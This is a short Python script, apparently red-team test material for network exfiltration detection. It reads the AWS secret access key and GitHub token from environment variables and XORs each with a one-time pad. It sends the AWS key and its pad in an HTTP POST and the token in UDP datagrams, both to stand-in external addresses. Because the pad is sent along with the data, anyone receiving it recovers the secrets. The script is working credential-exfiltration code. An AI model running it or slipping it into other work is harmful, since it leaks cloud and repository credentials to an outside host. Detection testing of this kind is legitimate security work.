# Secrets XOR-ed with a one-time pad, the key sent with them (red team,
# session 24: a medium network finding; no repeating key undoes a key as
# long as the value, but the receiver needs the key):
#  - the AWS secret key in a JSON body, {"k": hex of the key, "d": hex of
#    the ciphertext}, POSTed with http.client;
#  - the GitHub token's ciphertext and key in two UDP datagrams to one
#    port, each base64.
import base64
import http.client
import json
import os
import socket


def pad(value):
    key = os.urandom(len(value))
    return key, bytes(a ^ b for a, b in zip(value, key))


k, d = pad(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode())
try:
    c = http.client.HTTPConnection("203.0.113.81", 80, timeout=3)
    c.request("POST", "/p", json.dumps({"k": k.hex(), "d": d.hex()}), {"Content-Type": "application/json"})
    c.getresponse().read()
except OSError as e:
    print("post", e)
k, d = pad(os.environ.get("GITHUB_TOKEN", "").encode())
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for part in (d, k):
    try:
        u.sendto(base64.b64encode(part), ("203.0.113.82", 6000))
    except OSError as e:
        print("udp", e)
print("sent")
